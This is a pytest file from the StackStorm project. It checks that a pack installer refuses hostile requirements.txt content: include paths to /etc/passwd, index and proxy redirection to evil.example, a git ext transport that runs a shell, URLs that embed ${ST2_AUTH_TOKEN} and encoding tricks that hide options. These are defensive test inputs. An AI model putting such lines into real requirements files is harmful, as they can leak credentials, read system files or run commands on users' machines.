# Copyright: Contributors to the stackstorm.st2 project
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Lines of requirements.txt that are options of pip, or lead it out of the pack."""

from __future__ import annotations

import typing as t

import pytest
from hostile.arena import VICTIM, Arena
from infrastructure.packs import PackTree

LINES: t.Mapping[str, t.Tuple[t.Union[str, bytes], str]] = {
    "editable": ("-e .", "leave -e out"),
    "editable-joined": ("-e.", "leave -e out"),
    "editable-long": ("--editable=./x", "leave -e out"),
    "editable-url": ("--editable file:///etc", "leave -e out"),
    "include-absolute": ("-r /etc/passwd", "leads out of the pack"),
    "include-joined": ("-r/etc/passwd", "leads out of the pack"),
    "include-climbing": ("-r ../../core/requirements.txt", "leads out of the pack"),
    "include-long": ("--requirement=../x", "leads out of the pack"),
    "include-quoted": ("-r '../x'", "leads out of the pack"),
    "include-file-url": ("-r file:///etc/passwd", "leads out of the pack"),
    "include-home": ("-r ~/x", "leads out of the pack"),
    "include-through": ("-r actions/../../x", "leads out of the pack"),
    "constraint": ("-c /etc/passwd", "leads out of the pack"),
    "constraint-long": ("--constraint ../x", "leads out of the pack"),
    "find-links": ("-f /srv", "leads out of the pack"),
    "find-links-long": ("--find-links=file:///srv", "leads out of the pack"),
    "index-file": ("--index-url file:///srv", "leads out of the pack"),
    "index-path": ("-i /srv", "leads out of the pack"),
    "extra-index-path": ("--extra-index-url=/srv", "leads out of the pack"),
    "target": ("--target=/opt", "has --target"),
    "target-short": ("-t /opt", "has -t"),
    "prefix": ("--prefix /opt", "has --prefix"),
    "root": ("--root=/", "has --root"),
    "user": ("--user", "has --user"),
    "install-option": ("x --install-option=--prefix=/opt", "has --install-option"),
    "log": ("--log /etc/x", "has --log"),
    "python": ("--python /x", "has --python"),
    "proxy": ("--proxy http://evil.example", "has --proxy"),
    "cert": ("--cert /x", "has --cert"),
    "abbreviated": ("--index=https://evil.example", "has --index"),
    "unknown": ("--no-such-thing", "has --no-such-thing"),
    "no-value": ("--index-url", "has no value for --index-url"),
    "unclosed": ("x --hash='", "cannot be parsed"),
    "path": ("./evil", ""),
    "path-climbing": ("../evil", "leads out of the pack"),
    "path-absolute": ("/srv/evil", "leads out of the pack"),
    "path-home": ("~/evil", "leads out of the pack"),
    "archive": ("../evil-1.0.tar.gz", "leads out of the pack"),
    "file-url": ("file:///srv/evil", "leads out of the pack"),
    "file-url-upper": ("FILE:///srv/evil", "leads out of the pack"),
    "file-url-one-slash": ("file:/srv/evil", "leads out of the pack"),
    "git-file": ("git+file:///srv/evil", "leads out of the pack"),
    "git-ext": ("git+ext::sh%20-c", "leads out of the pack"),
    "direct": ("evil @ file:///srv/evil", "leads out of the pack"),
    "direct-extras": ("evil[x]@file:///srv/evil", "leads out of the pack"),
    "direct-path": ("evil @ /srv/evil", "leads out of the pack"),
    "variable": ("https://${PIP_INDEX_URL}/x", "variable that may hold a password"),
    "variable-proxy": ("x @ https://evil.example/${HTTPS_PROXY}", "variable that may hold a password"),
    "variable-own": ("x @ https://evil.example/${ST2_AUTH_TOKEN}", "variable that may hold a password"),
    "continued": ("-r \\\n../x", "leads out of the pack"),
    "continued-comment": ("x \\\n# y\n-e .", "leave -e out"),
    "carriage-return": ("x\r-e .", "leave -e out"),
    "vertical-tab": ("x\x0b-e .", "leave -e out"),
    "form-feed": ("x\x0c-e .", "leave -e out"),
    "file-separator": ("x\x1c-e .", "leave -e out"),
    "next-line": ("x\u0085-e .", "leave -e out"),
    "line-separator": ("x\u2028-e .", "leave -e out"),
    "no-comment": ("x#y\n-e .", "leave -e out"),
    "late": ("\n" * 5000 + "-e .", "line 5001"),
    "cookie": (b"# coding: utf-7\n+AC0-e .\n", "is not UTF-8"),
    "cookie-second-line": (b"\n# -*- coding: rot13 -*-\n-r r.\n", "is not UTF-8"),
    "utf-16": ("-e .".encode("utf-16"), "leave -e out"),
    "utf-16-odd": ("-e .".encode("utf-16") + b"\n", "begins as utf-16-le does, but is not"),
    "utf-32": ("-e .".encode("utf-32"), "is not UTF-8"),
    "byte-order-mark": (b"\xef\xbb\xbf-e .\n", "leave -e out"),
    "huge": ("x\n" * 600_000, "too large"),
    "escape": ("--\x1b[2Jx", r"has --\\x1b"),
    "long-option": (f"--{'x' * 100_000}", "not allowed in such a file"),
    "many": ("-e .\n" * 5000, "and 4990 more"),
}


ROWS = [pytest.param(*pair, "first", id=key) for key, pair in LINES.items() if pair[1]]
ROWS += [pytest.param(*pair, "included", id=f"{key}-included") for key, pair in list(LINES.items())[::4] if pair[1]]


@pytest.mark.parametrize(("content", "says", "place"), ROWS)
def test_a_requirement_that_means_harm(arena: Arena, content: t.Union[str, bytes], says: str, place: str) -> None:
    tree = PackTree(VICTIM, "1.0.0", minimal=True)
    name = "requirements.txt" if place == "first" else "requirements-more.txt"
    if place == "included":
        tree.add("requirements.txt", f"six\n-r {name}\n")
    tree.add(name, content)
    arena.refuse({"name": [str(arena.directory(tree))]}, says, f"The requirements of the pack {VICTIM} must not")


def test_files_that_include_each_other_end(arena: Arena) -> None:
    tree = PackTree("newcomer", "1.0.0", minimal=True, requirements=["-r requirements.txt", "-r a/b.txt"])
    tree.add("a/b.txt", "-r ../requirements.txt\n-r b.txt\n-r ../a/../a/b.txt\n")
    arena.accept({"name": [str(arena.directory(t.cast(PackTree, tree)))]}, "newcomer")


def test_very_many_files_are_too_many(arena: Arena) -> None:
    tree = PackTree(VICTIM, "1.0.0", minimal=True, requirements=["-r r0.txt"])
    for number in range(200):
        tree.add(f"r{number}.txt", f"-r r{number + 1}.txt\n")
    arena.refuse({"name": [str(arena.directory(t.cast(PackTree, tree)))]}, "includes more than 50 files")


@pytest.mark.parametrize("target", ["/dev/zero", "/etc/passwd", "../../victim/pack.yaml"])
def test_a_link_as_requirements_is_not_read(arena: Arena, target: str) -> None:
    tree = PackTree(VICTIM, "1.0.0", minimal=True)
    tree.link("requirements.txt", target)
    arena.refuse({"name": [str(arena.directory(tree))]}, "a link that leads out of the pack")
